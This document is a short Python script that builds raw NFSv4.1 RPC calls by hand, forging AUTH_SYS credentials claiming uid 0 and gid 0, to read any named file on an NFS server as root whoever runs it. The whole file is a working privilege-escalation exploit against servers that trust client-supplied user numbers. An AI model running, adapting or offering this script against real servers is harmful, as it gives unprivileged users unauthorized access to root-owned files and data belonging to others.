#!/usr/bin/env python3
"""Reads a file over NFSv4.1 as uid 0, whoever runs this: claim-root.py SERVER PATH.

NFS with AUTH_SYS believes the user number that a client writes into its calls.
The kernel writes the true one; a program of one's own writes what it likes.
"""
import os, socket, struct, sys

server, path = sys.argv[1], sys.argv[2].strip("/").split("/")


def words(*numbers):
    return struct.pack(f">{len(numbers)}I", *numbers)


def opaque(data):
    return words(len(data)) + data + bytes(-len(data) % 4)


def call(*operations):
    """One COMPOUND of minor version 1; what follows the status of each is the answer."""
    identity = words(0) + opaque(b"localhost") + words(0, 0, 0)  # stamp, machine, UID 0, GID 0
    header = words(1, 0, 2, 100003, 4, 1)  # xid, call, RPC 2, NFS, version 4, COMPOUND
    body = header + words(1) + opaque(identity) + words(0, 0)  # AUTH_SYS, no verifier
    body += opaque(b"") + words(1, len(operations)) + b"".join(operations)
    connection.sendall(words(1 << 31 | len(body)) + body)
    size, = struct.unpack(">I", stream.read(4))
    reply = stream.read(size & 0x7FFFFFFF)
    status, = struct.unpack_from(">I", reply, 24)
    if status:
        sys.exit(f"the server answers with error {status}")
    return reply[36:]


def channel():
    return words(0, 1 << 16, 1 << 16, 1 << 12, 16, 1, 0)


connection = socket.socket()
connection.settimeout(3)
try:
    connection.connect((server, 2049))
except OSError as error:
    sys.exit(f"cannot reach {server}:2049: {error}")
stream = connection.makefile("rb")
print(f"uid {os.getuid()} from port {connection.getsockname()[1]}, claiming to be uid 0:", flush=True)

owner = f"claim-root {os.getpid()}".encode()
reply = call(words(42) + os.urandom(8) + opaque(owner) + words(0, 0, 0))  # EXCHANGE_ID
client, sequence = reply[8:16], reply[16:20]
create = words(43) + client + sequence + words(0) + channel() + channel()  # CREATE_SESSION
session = call(create + words(0x40000000, 1, 0))[8:24]
ask = words(53) + session + words(1, 0, 0, 0)  # SEQUENCE
walk = [words(24)] + [words(15) + opaque(name.encode()) for name in path]  # PUTROOTFH, LOOKUP
read = words(25) + bytes(16) + struct.pack(">QI", 0, 4096)  # READ, without having opened
reply = call(ask, *walk, read)
answer = reply[8 + 36 + 8 * len(walk) + 8:]
length, = struct.unpack_from(">I", answer, 4)
sys.stdout.write(answer[8:8 + length].decode())
